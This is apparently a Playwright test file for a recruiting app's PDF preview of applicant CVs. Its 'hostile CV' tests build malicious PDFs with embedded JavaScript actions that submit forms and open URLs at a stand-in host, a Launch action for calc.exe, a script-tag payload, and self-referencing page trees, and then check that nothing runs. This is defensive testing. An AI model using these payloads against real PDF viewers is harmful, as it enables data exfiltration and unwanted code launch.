import type { Page } from '@playwright/test'
import { addApplicant } from './support/applicants.ts'
import { expectAccessible } from './support/axe.ts'
import { expectPath, title } from './support/pages.ts'
import { pdfOf, stream } from './support/pdf.ts'
import type { Person } from './support/people.ts'
import { expect, test } from './support/test.ts'

test.use({ as: 'Admin' })

const words = (text: string) => stream(`BT /F1 24 Tf 72 720 Td (${text}) Tj ET`)
const helvetica = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const sheetOf = (contents: string, rest = '') =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 3 0 R>>/XObject<</I1 6 0 R>>>>/Contents ${contents}${rest}>>`
const catalog = '<</Type/Catalog/Pages 2 0 R>>'
const onePage = '<</Type/Pages/Count 1/Kids[4 0 R]>>'

/** Opens somebody's profile whose CV is this file. */
async function openCv({ page, superadmin, file }: { page: Page; superadmin: Person; file: Buffer }) {
  const CV = { name: 'cv.pdf', mimeType: 'application/pdf', buffer: file }
  const { uuid, name } = await addApplicant(superadmin, { CV })
  await page.goto(`/applicants/profile?uuid=${uuid}`)
  await expect(title(page, name)).toBeVisible()
  return page.getByRole('group', { name: 'Preview of cv.pdf' })
}

/** What stands in the place of a file that cannot be shown: its name and a way to it. */
async function expectNoPreview(page: Page) {
  await expect(page.getByText('This file could not be shown')).toBeVisible({ timeout: 15_000 })
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download', exact: true }).click(),
  ])
  expect(download.suggestedFilename()).toBe('cv.pdf')
}

test.describe('a CV', () => {
  test('of East Asian letters, which it does not bring along, is read', async ({ page, superadmin }) => {
    const file = pdfOf([
      catalog,
      onePage,
      '<</Type/Font/Subtype/Type0/BaseFont/KozMinPro-Regular/Encoding/90ms-RKSJ-H/DescendantFonts[5 0 R]>>',
      sheetOf('7 0 R'),
      '<</Type/Font/Subtype/CIDFontType0/BaseFont/KozMinPro-Regular/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>/FontDescriptor 6 0 R>>',
      '<</Type/FontDescriptor/FontName/KozMinPro-Regular/Flags 4/FontBBox[0 -120 1000 880]/ItalicAngle 0/Ascent 880/Descent -120/CapHeight 740/StemV 80>>',
      // 日本語 as Shift JIS has it.
      stream('BT /F1 24 Tf 72 720 Td <93FA967B8CEA> Tj ET'),
    ])
    const preview = await openCv({ page, superadmin, file })
    await expect(preview.getByText('日本語')).toBeVisible()
    // What reads a file ends with the page that shows it.
    expect(page.workers()).toHaveLength(1)
    await page.getByRole('link', { name: 'To the list' }).click()
    await expectPath(page, '/applicants')
    await expect.poll(() => page.workers().length).toBe(0)
  })

  test('with pictures as scanners and cameras keep them shows them', async ({ page, superadmin }) => {
    // 16 × 16 pixels of one red.
    const jpeg2000 =
      '/0//UQAvAAAAAAAQAAAAEAAAAAAAAAAAAAAAEAAAABAAAAAAAAAAAAADBwEBBwEBBwEB/1IADAAAAAEBAAQEAAH/XAAEQED/kAAKAAAAAAB1AAH/k8fUPhFQVK/fR7K3AAAAAGEhL9rEQAAAwkJftpkAAAGEhL/B8g8UAFyv9JywPAAAAABhIS/fgYAUAFyv9JywPAAAAABhIS/axEAAAMJCX7aZAAABhIS/bTIAAAMJCX7aZAAABhIS/3//2Q=='
    // Eight lines of eight black pixels, as a fax sends them.
    const fax = String.fromCharCode(0b00100110, 0b10100010, 0b11111111, 0b11111100, 0b00000000, 0b01000000, 0b00000100)
    const picture = (rest: string, size: number) => `/Type/XObject/Subtype/Image/Width ${size}/Height ${size}${rest}`
    const file = pdfOf([
      catalog,
      onePage,
      helvetica,
      sheetOf('5 0 R').replace('/I1 6 0 R', '/I1 6 0 R/I2 7 0 R'),
      stream('q 595 0 0 421 0 421 cm /I1 Do Q q 595 0 0 421 0 0 cm /I2 Do Q BT /F1 9 Tf 10 10 Td 1 g (A scan) Tj ET'),
      stream(atob(jpeg2000), picture('/Filter/JPXDecode/ColorSpace/DeviceRGB/BitsPerComponent 8', 16)),
      stream(
        fax,
        picture(
          '/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 8/Rows 8>>/ColorSpace/DeviceGray/BitsPerComponent 1',
          8,
        ),
      ),
    ])
    const preview = await openCv({ page, superadmin, file })
    await expect(preview.getByText('A scan')).toBeVisible()
    const colourAt = (height: number) =>
      preview.locator('canvas').evaluate((canvas, part) => {
        if (!(canvas instanceof HTMLCanvasElement) || canvas.width === 0) return undefined
        const { data } = canvas.getContext('2d')!.getImageData(canvas.width / 2, canvas.height * part, 1, 1)
        return [...data]
      }, height)
    await expect.poll(() => colourAt(0.25)).toEqual([200, 30, 40, 255])
    await expect.poll(() => colourAt(0.75)).toEqual([0, 0, 0, 255])
  })
})

test.describe('a hostile CV', () => {
  test('runs nothing and asks nobody else', async ({ page, context, superadmin, baseURL }) => {
    const asked = new Set<string>()
    context.on('request', (request) => asked.add(new URL(request.url()).origin))
    const happened: string[] = []
    page.on('dialog', async (dialog) => {
      happened.push(dialog.message())
      await dialog.dismiss()
    })
    context.on('page', (opened) => happened.push(opened.url()))
    page.on('download', () => happened.push('download'))
    const elsewhere = 'http://elsewhere.example'
    const script =
      '(app.alert\\(1\\); this.submitForm\\("http://elsewhere.example/"\\); app.launchURL\\("http://elsewhere.example/"\\))'
    const file = pdfOf([
      `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS ${script}/Next<</S/URI/URI(${elsewhere}/opened)>>>>/AA<</WC<</S/JavaScript/JS ${script}>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS ${script}>>]>>>>/AcroForm<</Fields[7 0 R]/XFA(<xdp><script>app.alert\\(2\\)</script></xdp>)>>>>`,
      onePage,
      helvetica,
      sheetOf(
        '5 0 R',
        `/AA<</O<</S/JavaScript/JS ${script}>>>>/Annots[7 0 R<</Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${elsewhere}/link)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/Launch/F(calc.exe)>>>><</Subtype/Link/Rect[0 0 595 842]/A<</S/SubmitForm/F(${elsewhere}/form)>>>>]`,
      ),
      words('Nothing happens here'),
      // A picture that is to be fetched from elsewhere.
      `<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F<</FS/URL/F(${elsewhere}/picture)>>/Length 0>>stream\n\nendstream`,
      `<</Subtype/Widget/FT/Tx/T(name)/Rect[0 0 595 842]/AA<</E<</S/JavaScript/JS ${script}>>/F<</S/JavaScript/JS ${script}>>>>>>`,
    ])
    const preview = await openCv({ page, superadmin, file })
    const line = preview.getByText('Nothing happens here')
    await expect(line).toBeVisible()
    await line.click()
    await preview.locator('canvas').click({ position: { x: 40, y: 200 }, force: true })
    await preview.getByRole('button', { name: 'Zoom in' }).click()
    await expect(preview.getByRole('status', { name: 'Zoom' })).toHaveText('110 %')
    await expect(preview.getByRole('link')).toHaveCount(0)
    await expect(preview.locator('input')).toHaveCount(0)
    expect(happened).toEqual([])
    expect([...asked].filter((origin) => origin !== baseURL && !origin.startsWith('blob:'))).toEqual([])
    await expect(page).toHaveURL(/\/applicants\/profile/)
  })

  test('whose table of contents is wrong is read all the same', async ({ page, superadmin }) => {
    const good = pdfOf([catalog, onePage, helvetica, sheetOf('5 0 R'), words('Found again')]).toString('latin1')
    const file = Buffer.from(
      good.replace(/\d{10} 00000 n/g, '9999999999 00000 n').replace(/startxref\n\d+/, 'startxref\n-7'),
    )
    const preview = await openCv({ page, superadmin, file })
    await expect(preview.getByText('Found again')).toBeVisible()
  })

  test.describe('says that it cannot be shown, and can be downloaded:', () => {
    const hostile: Record<string, Buffer> = {
      'no document behind its first line': Buffer.from('%PDF-1.4\n<script>alert(1)</script>'),
      'pages that hold each other': pdfOf([
        catalog,
        '<</Type/Pages/Count 9/Kids[3 0 R]>>',
        '<</Type/Pages/Parent 2 0 R/Count 9/Kids[2 0 R]>>',
      ]),
      'a page that is wider than anything and flat': pdfOf([
        catalog,
        onePage,
        helvetica,
        sheetOf('5 0 R').replace('0 0 595 842', '0 0 1000000000 0.001'),
        words('x'),
      ]),
    }
    for (const [what, file] of Object.entries(hostile))
      test(what, async ({ page, superadmin }) => {
        await openCv({ page, superadmin, file })
        await expectNoPreview(page)
        await expectAccessible(page)
      })
  })

  test('of a page as large as a town leaves the page usable', async ({ page, superadmin }) => {
    const large = sheetOf('5 0 R').replace('0 0 595 842', '0 0 100000000 100000000')
    const preview = await openCv({ page, superadmin, file: pdfOf([catalog, onePage, helvetica, large, words('x')]) })
    await expect.poll(() => preview.locator('canvas').evaluate((canvas) => canvas.clientWidth)).toBeGreaterThan(100)
    for (let press = 0; press < 3; press++) await preview.getByRole('button', { name: 'Zoom in' }).click()
    await expect(preview.getByRole('status', { name: 'Zoom' })).toHaveText('130 %')
    const pixels = () =>
      preview
        .locator('canvas')
        .evaluate((canvas) => (canvas as HTMLCanvasElement).width * (canvas as HTMLCanvasElement).height)
    expect(await pixels()).toBeLessThanOrEqual(16_000_000)
  })

  test('that says it has a thousand million pages shows those that there are', async ({ page, superadmin }) => {
    const pages = onePage.replace('/Count 1', '/Count 1000000000')
    const file = pdfOf([catalog, pages, helvetica, sheetOf('5 0 R'), words('The only one')])
    const preview = await openCv({ page, superadmin, file })
    await expect(preview.getByText('The only one')).toBeVisible()
    await expect(preview.getByText('Page 1 of 1')).toBeVisible()
  })
})
